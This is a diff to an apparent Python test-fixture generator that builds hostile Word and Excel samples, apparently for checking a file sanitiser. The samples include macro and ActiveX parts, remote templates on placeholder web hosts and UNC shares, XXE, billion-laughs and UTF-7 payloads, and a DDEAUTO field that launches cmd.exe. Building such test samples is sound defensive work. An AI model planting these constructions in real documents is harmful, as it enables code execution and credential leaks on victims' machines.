@@ -235,51 +235,52 @@ def docx_with(name: str, content: bytes) -> bytes:
     return package(docx_parts({name: content}))
 
 
+RELATIONS = "word/_rels/settings.xml.rels"
+
+
+def _outside(kind: str, target: str) -> bytes:
+    return docx_with(RELATIONS, outside(kind, target).encode())
+
+
 def programs() -> Iterator[Sample]:
-    """Office files that run, load or read something when they open."""
-    relations = "word/_rels/settings.xml.rels"
+    """Word files that run, load or read something when they open."""
     types = CONTENT_TYPES.replace("application/xml", "application/vnd.ms-office.vbaProject")
-    macro = CONTENT_TYPES.replace(
-        "application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
-    )
-    words = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"
-    dde = DOCUMENT.replace("证明材料", f"</w:t><w:instrText>{words}</w:instrText><w:t>")
-    link = '<externalLink xmlns="urn:x"><ddeLink ddeService="cmd"/></externalLink>'
-    utf16 = b"\xff\xfe" + XXE.encode("utf-16-le")
-    utf7 = b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-<x/>'
+    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
+    macro = CONTENT_TYPES.replace("application/xml", enabled)
+    renamed = docx_parts({"[Content_Types].xml": types, "word/a.xml": "<a/>"})
     for what, content in (
         ("macro", docx_with("word/vbaProject.bin", OLE)),
-        (
-            "macro under another name",
-            package(docx_parts({"[Content_Types].xml": types, "word/a.xml": "<a/>"})),
-        ),
+        ("macro under another name", package(renamed)),
         ("DOCM renamed", package(docx_parts({"[Content_Types].xml": macro}))),
         ("ActiveX", docx_with("word/activeX/activeX1.xml", b"<a/>")),
         ("OLE object", docx_with("word/embeddings/oleObject1.bin", OLE)),
         ("program inside", docx_with("word/embeddings/run.exe", b"MZ")),
         ("page inside", docx_with("word/a.html", MARK)),
-        (
-            "outside template",
-            docx_with(relations, outside("attachedTemplate", "http://x/a.dotm").encode()),
-        ),
-        (
-            "outside template on a share",
-            docx_with(relations, outside("attachedTemplate", "file://\\\\x\\a.dotm").encode()),
-        ),
-        ("outside object", docx_with(relations, outside("oleObject", "https://x/a").encode())),
-        ("outside frame", docx_with(relations, outside("frame", "http://x/a.html").encode())),
-        (
-            "outside part",
-            docx_with(relations, outside("subDocument", "\\\\x\\a.docx").encode()),
-        ),
+        ("outside template", _outside("attachedTemplate", "http://x/a.dotm")),
+        ("template on a share", _outside("attachedTemplate", "file://\\\\x\\a.dotm")),
+        ("outside object", _outside("oleObject", "https://x/a")),
+        ("outside frame", _outside("frame", "http://x/a.html")),
+        ("outside part", _outside("subDocument", "\\\\x\\a.docx")),
+    ):
+        yield Sample(f"Word: {what}", "a.docx", content)
+
+
+def markup() -> Iterator[Sample]:
+    """Office files whose XML reaches out, and tables that run something."""
+    words = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"
+    dde = DOCUMENT.replace("证明材料", f"</w:t><w:instrText>{words}</w:instrText><w:t>")
+    utf16 = b"\xff\xfe" + XXE.encode("utf-16-le")
+    utf7 = b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-<x/>'
+    for what, content in (
         ("XXE", docx_with("word/document.xml", XXE.encode())),
-        ("XXE in relations", docx_with(relations, XXE.encode())),
+        ("XXE in relations", docx_with(RELATIONS, XXE.encode())),
         ("XXE in UTF-16", docx_with("word/styles.xml", utf16)),
         ("hidden encoding", docx_with("word/styles.xml", utf7)),
         ("billion laughs", docx_with("word/styles.xml", LAUGHS.encode())),
         ("DDE", docx_with("word/document.xml", dde.encode())),
     ):
         yield Sample(f"Word: {what}", "a.docx", content)
+    link = '<externalLink xmlns="urn:x"><ddeLink ddeService="cmd"/></externalLink>'
     yield Sample("Excel: macro", "a.xlsx", xlsx({"xl/vbaProject.bin": OLE}))
     yield Sample("Excel: XXE", "a.xlsx", xlsx({"xl/sharedStrings.xml": XXE}))
     yield Sample("Excel: DDE", "a.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": link}))
@@ -288,5 +289,5 @@ def programs() -> Iterator[Sample]:
 
 def all_hostile() -> list[Sample]:
     """Every one of them."""
-    made = (other_types, papers, pictures, to_clean, archives, programs)
+    made = (other_types, papers, pictures, to_clean, archives, programs, markup)
     return [sample for family in made for sample in family()]
